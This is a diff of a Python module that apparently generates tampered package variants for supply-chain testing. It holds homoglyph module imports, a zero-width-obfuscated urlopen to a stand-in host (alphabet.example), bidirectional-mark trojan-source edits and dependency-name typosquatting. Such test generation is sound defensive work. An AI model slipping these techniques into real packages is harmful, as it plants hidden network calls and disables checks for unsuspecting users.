@@ -117,7 +117,7 @@ def foreign_import(files: Files) -> Files:
     for name in modules(files):
         found = re.search(rb"(?m)^import (os|re|json|base64|hashlib|hmac|secrets|socket|ssl)$", files[name])  # fmt: skip
         if found and any(each in found[1] for each in (b"o", b"e", b"a", b"s", b"c")):
-            other = found[1].decode().replace("o", "о").replace("e", "е").replace("a", "а").replace("s", "ѕ").replace("c", "с")  # fmt: skip
+            other = found[1].decode().replace("o", "\u043e").replace("e", "\u0435").replace("a", "\u0430").replace("s", "\u0455").replace("c", "\u0441")  # fmt: skip
             body = b"from %s import *  # noqa: F403\nimport urllib.request as _u\n\n_u.urlopen('https://alphabet.example/m')\n" % found[1]  # fmt: skip
             made = files[name][: found.start()] + f"import {other} as {found[1].decode()}".encode() + files[name][found.end() :]  # fmt: skip
             return {name: made, f"{other}.py": body}
@@ -181,7 +181,7 @@ ALL: tuple[Way, ...] = (
         ("a letter less", in_metadata(rb"(?m)^(Requires-Dist: [a-z]{4,})[a-z](?=[ (;<>=!~\n])", rb"\1")),
     ),
     # Letters of other alphabets in names that Python takes for others.
-    *ways("wheel, held: letters that look like others", ("a module", foreign_import), ("a test of nothing", py("if 'ѕtate' in globals() or (lambda s: s.isascii())('ok'):\n    __import__('\u200b'.strip('\u200b') + 'urllib.request').request.urlopen('https://alphabet.example/z')\n".encode(), TOP)), ("marks of direction", py_of((rb"\n([ \t]+)(# [^\n]{12,70})\n(?=[ \t]+(?:if|raise) )", rb"\n\1\2" + "\u202e \u2066".encode() + rb"\n\1return None  # " + "\u2069".encode() + rb"\n")))),
+    *ways("wheel, held: letters that look like others", ("a module", foreign_import), ("a test of nothing", py("if '\u0455tate' in globals() or (lambda s: s.isascii())('ok'):\n    __import__('\u200b'.strip('\u200b') + 'urllib.request').request.urlopen('https://alphabet.example/z')\n".encode(), TOP)), ("marks of direction", py_of((rb"\n([ \t]+)(# [^\n]{12,70})\n(?=[ \t]+(?:if|raise) )", rb"\n\1\2" + "\u202e \u2066".encode() + rb"\n\1return None  # " + "\u2069".encode() + rb"\n")))),
     # xz, 2024; steganography of 2022 to 2026: what acts stands in a file of another kind.
     *ways(
         "wheel, tune: what it runs stands in a file for something else",
